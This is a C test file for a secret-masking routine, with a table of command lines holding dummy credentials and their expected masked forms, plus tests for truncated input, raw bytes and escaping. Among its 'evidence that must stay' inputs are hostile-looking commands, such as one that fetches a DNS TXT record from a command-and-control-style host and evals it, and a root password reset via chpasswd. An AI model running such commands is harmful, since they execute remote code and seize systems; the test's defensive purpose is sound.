/* SPDX-License-Identifier: Apache-2.0 */
/* mask - secrets in what reports quote, and what must not be hidden. */
#include "mask.h"

#include <stdio.h>

#include "show.h"
#include "tap.h"

static const struct {
	const char *in, *want; /* want NULL: as it is */
} cases[] = {
	/* headers */
	{ "curl -H 'Authorization: Bearer abc.def-123' https://x",
	    "curl -H 'Authorization: Bearer [masked]' https://x" },
	{ "curl -H \"authorization: token ghx\" x",
	    "curl -H \"authorization: token [masked]\" x" },
	{ "curl -H 'Authorization: s3cret' x",
	    "curl -H 'Authorization: [masked]' x" },
	{ "curl -H 'X-Api-Key: k1' x", "curl -H 'X-Api-Key: [masked]' x" },
	{ "curl -H 'Cookie: a=b; c=d' x", "curl -H 'Cookie: [masked]' x" },
	{ "Bearer 0123456789abcdef0123", "Bearer [masked]" },
	{ "the bearer of bad news", NULL },
	/* URLs */
	{ "git clone https://bob:hunter2@git.example/x",
	    "git clone https://bob:[masked]@git.example/x" },
	{ "wget ftp://u:p@ss@h/", "wget ftp://u:[masked]@h/" },
	{ "https://0123456789abcdef01234567@git.example/",
	    "https://[masked]@git.example/" },
	{ "ssh://git@github.example/x", NULL },
	{ "http://host:8080/a@b", NULL },
	{ "https://x/?api_key=abc&q=1", "https://x/?api_key=[masked]&q=1" },
	{ "https://x/?key=abc123&q=1", "https://x/?key=[masked]&q=1" },
	{ "https://x/?a=1&sig=ab%2B", "https://x/?a=1&sig=[masked]" },
	/* names */
	{ "tool --password=hunter2 -v", "tool --password=[masked] -v" },
	{ "tool --password hunter2 -v", "tool --password [masked] -v" },
	{ "tool --password 'two words' -v", "tool --password '[masked]' -v" },
	{ "tool --api-key \"k\" x", "tool --api-key \"[masked]\" x" },
	{ "wget --http-password=x y", "wget --http-password=[masked] y" },
	{ "PGPASSWORD=x psql -h db", "PGPASSWORD=[masked] psql -h db" },
	{ "export MYSQL_PWD='x y'", "export MYSQL_PWD='[masked]'" },
	{ "AWS_SECRET_ACCESS_KEY=wJalr/bPx aws s3 ls",
	    "AWS_SECRET_ACCESS_KEY=[masked] aws s3 ls" },
	{ "GITHUB_TOKEN=x gh", "GITHUB_TOKEN=[masked] gh" },
	{ "curl -d '{\"password\": \"p\", \"user\": \"u\"}' x",
	    "curl -d '{\"password\": \"[masked]\", \"user\": \"u\"}' x" },
	{ "-d {\\\"token\\\":\\\"abc\\\"}",
	    "-d {\\\"token\\\":\\\"[masked]\"}" },
	{ "openssl enc -pass pass:secret -in x",
	    "openssl enc -pass pass:[masked] -in x" },
	{ "accessToken=abc", "accessToken=[masked]" },
	{ "psk=\"wifi words\"", "psk=\"[masked]\"" },
	/* options of commands */
	{ "mysql -uroot -phunter2 db", "mysql -uroot -p[masked] db" },
	{ "sudo mysqldump -ptop db", "sudo mysqldump -p[masked] db" },
	{ "mysql -u root -p db", NULL },
	{ "sshpass -p hunter2 ssh h", "sshpass -p [masked] ssh h" },
	{ "sshpass -phunter2 ssh -p 22 h", "sshpass -p[masked] ssh -p 22 h" },
	{ "curl -u bob:hunter2 https://x", "curl -u bob:[masked] https://x" },
	{ "curl --user 'bob:a b' x", "curl --user 'bob:[masked]' x" },
	{ "curl -u bob https://x", NULL },
	{ "redis-cli -a hunter2 keys", "redis-cli -a [masked] keys" },
	{ "smbclient -U bob%pw //h/s", "smbclient -U bob%[masked] //h/s" },
	{ "echo root:toor | chpasswd", "echo root:[masked] | chpasswd" },
	/* shapes */
	{ "id AKIAIOSFODNN7EXAMPLE end", "id AKIA[masked] end" },
	{ "x ghp_abcdefghijklmnopqrstuvwxyz0123456789 y", "x ghp_[masked] y" },
	{ "xoxb-1234567890-abcdef", "xoxb-[masked]" },
	{ "t eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLWhlcmU z",
	    "t eyJ[masked] z" },
	{ "https://api.telegram.org/bot123456789:AAAAAAAAAAAAAAAAAAAAAAA/x",
	    "https://api.telegram.org/bot123456789:[masked]/x" },
	{ "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA",
	    "-----BEGIN RSA PRIVATE KEY-----[masked]-----END RSA" },
	{ "-----BEGIN PRIVATE KEY-----MIIE",
	    "-----BEGIN PRIVATE KEY-----[masked]" },
	/* two in one */
	{ "A_TOKEN=a B_SECRET=b", "A_TOKEN=[masked] B_SECRET=[masked]" },
	/* evidence that must stay */
	{ "TOKEN=$(dig +short txt c2.example) && eval $TOKEN", NULL },
	{ "password=`nslookup -q=txt x`", NULL },
	{ "curl --token $T x", NULL },
	{ "sudo: bob : PWD=/root ; USER=root ; COMMAND=/bin/ls", NULL },
	{ "cat /etc/passwd:1", NULL },
	{ "passwd: files systemd", NULL },
	{ "mkdir -p /tmp/x && ssh -p 2222 h && nmap -p80 h", NULL },
	{ "grep -c pass file; mysql; ssh -p22 h", NULL },
	{ "65.181.121.56 malicious.com", NULL },
	{ "127.0.0.1 token.example password.example", NULL },
	{ "bypass=1 compass=n", NULL },
	{ "if [ \"$token\" == x ]", NULL },
	{ "dig @10.0.0.1 +short txt a.b.c", NULL },
	{ "", NULL },
};

static void
test_case(size_t i)
{
	const char *in = cases[i].in, *want = cases[i].want;
	struct buf b = BUF(64 * KIB);
	char name[32];

	(void)snprintf(name, sizeof(name), "case %zu", i);
	if (mask_secrets(span_str(in), &b) != 0)
		ok(false, "%s", name);
	else
		is_span(buf_span(&b), span_str(want ? want : in), name);
	buf_free(&b);
}

/* Every head of every case: no read past the end, no secret invented. */
static void
test_heads(void)
{
	bool good = true;

	for (size_t i = 0; i < array_size(cases); i++)
		for (size_t n = 0; n <= strlen(cases[i].in); n++) {
			struct buf b = BUF(64 * KIB);
			uint8_t *exact = malloc(n + 1);

			memcpy(exact, cases[i].in, n);
			good &= mask_secrets(span_of(exact, n), &b) == 0;
			good &= cases[i].want != NULL ||
			    (b.n == n && (!n || !memcmp(b.p, exact, n)));
			free(exact);
			buf_free(&b);
		}
	ok(good, "heads of all cases");
}

static void
test_bytes(void)
{
	static const uint8_t raw[] = "pass\0word=\xff\xfe token=\0\x1b[31m x";
	struct buf b = BUF(1024), small = BUF(8);

	ok(mask_secrets(span_of(raw, sizeof(raw) - 1), &b) == 0, "bytes");
	ok(b.n > 0 && !memchr(b.p, 0x1b, b.n), "NUL is part of a secret");
	ok(mask_secrets(SPAN("token=abcdefgh"), &small) == -ENOBUFS,
	    "a full buffer is told");
	buf_free(&b);
	buf_free(&small);
}

static void
test_show(void)
{
	struct buf b = BUF(1024);

	ok(show_text(SPAN("a\x1b[2J\n--token=x <\xe2\x80\xae>"), &b) == 0,
	    "text is shown");
	is_span(buf_span(&b),
	    SPAN("a\\x1b[2J\\n--token=[masked] <\\xe2\\x80\\xae>"),
	    "masked and escaped as text");
	b.n = 0;
	ok(show_html(SPAN("--token=x </script>\xff"), &b) == 0,
	    "html is shown");
	is_span(buf_span(&b), SPAN("--token=[masked] &lt;/script&gt;\\xff"),
	    "masked and escaped as html");
	buf_free(&b);
}

int
main(void)
{
	for (size_t i = 0; i < array_size(cases); i++)
		test_case(i);
	test_heads();
	test_bytes();
	test_show();
	return done_testing();
}
